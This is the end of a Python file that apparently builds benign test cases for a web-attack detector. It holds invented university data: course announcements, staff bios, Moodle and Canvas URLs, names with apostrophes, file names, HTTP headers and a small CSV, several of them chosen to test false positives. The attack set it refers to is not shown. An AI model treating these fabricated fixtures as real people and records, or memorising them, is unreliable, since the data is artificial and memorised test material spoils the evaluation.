    "Office hours moved to Thursday 2-4 pm in room B214",
    "The library proxy asks for the barcode on the back of your student card plus your PIN",
    # bios
    "Lecturer in Computer Science. I teach Web Programming (HTML, CSS, JavaScript, PHP) and Databases.",
    "Research Software Engineer at the HPC centre: Slurm, Open OnDemand, containers and Jupyter.",
    "PhD student in digital humanities, building an Omeka S archive of 19th-century letters.",
    "Learning technologist, Moodle and Canvas admin, LTI integrations, accessibility champion.",
    "Systems librarian: Koha, EZproxy, DSpace and the discovery layer. Ask me about MARC records.",
    "Associate Professor of Statistics. R, Stan, reproducible research. Office B214.",
    "Teaching assistant for CS1010 (Python) and CS2150 (Web). I mark labs on Mondays.",
    "Campus IT, identity team: Shibboleth, SAML, MFA rollout. Please don't email passwords.",
    "Postdoc in computational chemistry, GPU jobs on the cluster, occasional LaTeX wizard.",
    "Editor of the faculty journal on OJS. Reviews, DOIs, and the occasional <em>angry</em> author.",
]

SEARCHES = [
    "Moodle admin", "canvas support", "CS2150", "MATH201 tutor", "web programming lecturer", "php course",
    "javascript lab", "Koha librarian", "EZproxy", "DSpace repository", "Omeka", "OJS editor",
    "HPC support", "slurm", "JupyterHub admin", "Open OnDemand", "LTI integration", "Turnitin", "proctoring",
    "Shibboleth", "SAML identity", "registry office", "enrolment", "exam timetable", "statistics department",
    "digital humanities", "computer science", "chemistry postdoc", "teaching assistant", "learning technologist",
    "research software engineer", "library systems", "REDCap", "LimeSurvey", "Drupal web team", "WordPress",
    "MediaWiki", "grading rubric", "quiz", "gradebook", "B214", "O'Connor", "D'Souza", "Müller", "García",
]

URLS = [
    "https://moodle.example.edu/course/view.php?id=2150",
    "https://moodle.example.edu/mod/quiz/view.php?id=88231",
    "https://moodle.example.edu/course/search.php?search=web+programming",
    "https://canvas.example.edu/courses/4821/assignments/99120",
    "https://canvas.example.edu/courses/4821/gradebook",
    "https://learn.example.edu/webapps/blackboard/execute/announcement?method=search&course_id=_1234_1",
    "https://catalogue.example.edu/cgi-bin/koha/opac-search.pl?q=machine+learning",
    "https://login.ezproxy.example.edu/login?url=https://www.jstor.org/stable/1234567",
    "https://repository.example.edu/handle/10023/28811",
    "https://eprints.example.edu/id/eprint/4512/1/thesis_final.pdf",
    "https://archives.example.edu/omeka/items/show/311",
    "https://journals.example.edu/index.php/jdh/article/view/1042",
    "https://jupyter.example.edu/hub/login?next=%2Fhub%2Fuser%2Fjdoe%2Flab",
    "https://ondemand.example.edu/pun/sys/dashboard/activejobs",
    "https://doi.org/10.1145/3544548.3581234",
    "https://doi.org/10.5281/zenodo.8123456",
    "https://arxiv.org/abs/2403.01234",
    "https://idp.example.edu/idp/profile/SAML2/Redirect/SSO?execution=e1s1",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
]

PROSE = [
    "Please submit your essay as a PDF through the assignment page by 23:59 on Friday.",
    "The quiz opens Monday at 9:00 and closes Wednesday at 17:00. You have two attempts.",
    "Lab 4: write a page that reads a name from a form and prints it back safely with htmlspecialchars.",
    "Reading for week 3: chapter 2 of the textbook and the paper linked on the course page.",
    "Your grade for assignment 2 has been released. Feedback is in the comments on your submission.",
    "The library will be closed on Monday for the bank holiday. E-resources remain available via EZproxy.",
    "HPC maintenance: the cluster will be drained from 08:00, jobs that cannot finish in time will not start.",
    "Exam question: explain the difference between GET and POST, and when a form should use each.",
    "Office hours this week are online only, join via the Teams link on the course page.",
    "Group project teams are posted. Contact your TA if you have not been assigned to a group.",
    "Question 7 asks what <p>Hello</p> renders as; the answer is a paragraph containing the word Hello.",
    "Remember that include 'header.php'; at the top of each page is what gives you the common navigation.",
    "The reproducibility checklist asks for the code, the data DOI and the exact Slurm script used.",
    "Thesis submission: upload the final PDF to the repository and the signed declaration to the registry.",
    "For accessibility, every image needs alt text and every video needs captions before it goes on Canvas.",
    "The conference reviewing period ends on 14 June; reviewers can update scores until the PC meeting.",
    "Please use the department's LaTeX template, which sets the margins and the bibliography style for you.",
    "Students with approved extensions will see the new due date in the calendar.",
    "The survey is anonymous; the ethics approval number is on the information sheet.",
    "Late submissions lose 5% per day up to a maximum of five days.",
]

PROFILES = [
    ("Dr. Aoife O'Connor", "School of Computing, Room B214, Main Campus"),
    ("Prof. Rahul D'Souza", "Dept. of Statistics, Mathematics Building, Level 3"),
    ("Jörg Müller", "Research Computing, Data Centre, Building 12"),
    ("María García López", "Faculty of Arts, Old Quad, Office 2.07"),
    ("Chen Wei", "Library Systems, Main Library, Ground Floor"),
    ("Fatima Al-Sayed", "Learning Technology Unit, Teaching Hub 1.15"),
    ("Tomás Ó Briain", "School of Chemistry, Lab C3"),
    ("Priya Raman", "Registry, Student Services Centre"),
    ("Kwame Mensah", "IT Services, Identity & Access, Tower Block 5F"),
    ("Sophie Martin", "Graduate School, PhD Office, West Wing"),
    ("Eva Lund", "Rua da Universidade 5, Coimbra"),
    ("Marcus Scriven", "Via Zamboni 33, Bologna"),
    ("Noah Shell", "Oxford Road, Manchester M13 9PL"),
    ("Grace Hopper Hall", "Residence 4, Student Village"),
    ("Lab Admin (CS)", "Computer Science Building, Room 0.12"),
]

UPLOAD_NAMES = [
    "assignment2_jdoe.pdf", "essay_final_v3.docx", "lab4_index.php.txt", "CS2150_lab5.zip", "thesis_final.pdf",
    "quiz5_questions_moodle.xml", "grading_rubric_2024.xlsx", "lecture09_CSP.pptx", "survey_results.csv",
    "cohort_study_codebook.pdf", "train_resnet.sbatch", "analysis.ipynb", "poster_CHI2024.pdf",
    "dataset_readme.md", "slides week 3 (updated).pdf", "O'Connor_CV.pdf", "Müller_Publikationen.bib",
    "exam_timetable_2024-25.xlsx", "course_backup_MATH201.mbz", "reading list - term 2.docx",
    "student_roster.csv", "figure3_results.png", "conference_camera_ready.tex", "ethics_approval_signed.pdf",
    "week6_sessions_php_notes.md",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0"),
    ("User-Agent", "MoodleMobile 4.3.0 (43000) Android"),
    ("User-Agent", "python-requests/2.31.0"),
    ("Referer", "https://moodle.example.edu/course/view.php?id=2150"),
    ("Referer", "https://canvas.example.edu/courses/4821/modules"),
    ("Referer", "https://jupyter.example.edu/user/jdoe/lab/tree/notebooks/analysis.ipynb"),
    ("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Cookie", "MoodleSession=q2l8v1k3h4m5n6b7c8d9f0g1h2; MOODLEID1_=%25F1%25CD%251E"),
]

BENIGN_UPLOAD = "name,email,course\nAoife O'Connor,aoconnor@example.edu,CS2150\nChen Wei,cwei@example.edu,MATH201\n"


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS, BENIGN_UPLOAD)


if __name__ == "__main__":
    print_records(attacks(), benign())
